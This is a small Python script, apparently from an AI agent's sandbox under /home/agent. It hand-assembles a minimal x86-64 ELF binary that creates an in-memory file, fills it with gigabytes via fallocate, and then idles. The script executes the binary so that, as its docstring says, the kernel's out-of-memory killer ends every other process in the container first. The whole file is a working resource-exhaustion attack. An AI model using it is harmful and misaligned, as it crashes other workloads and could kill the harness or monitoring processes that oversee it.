"""Becomes a program so small that, when memory ends, the kernel ends everything else in the container first.

It is made of machine code (x86-64): a file in memory, which grows until nothing is left.
"""

import os
import struct

CODE = (
    b"\xb8\x3f\x01\x00\x00\x48\x8d\x3d\x00\x00\x00\x00\x31\xf6\x0f\x05\x89\xc7"  # memfd_create
    b"\xb8\x1d\x01\x00\x00\x31\xf6\x31\xd2\x49\xba" + struct.pack("<Q", 4 << 30) + b"\x0f\x05"  # fallocate
    b"\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7"  # pause
)
BASE = 0x400000
SIZE = 120 + len(CODE)
HEAD = struct.pack(
    "<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0, 2, 62, 1, BASE + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0
)
HEAD += struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, SIZE, SIZE, 0x1000)
with open("/home/agent/tiny", "wb") as program:
    program.write(HEAD + CODE)
os.chmod("/home/agent/tiny", 0o755)
os.execv("/home/agent/tiny", ["/home/agent/tiny"])
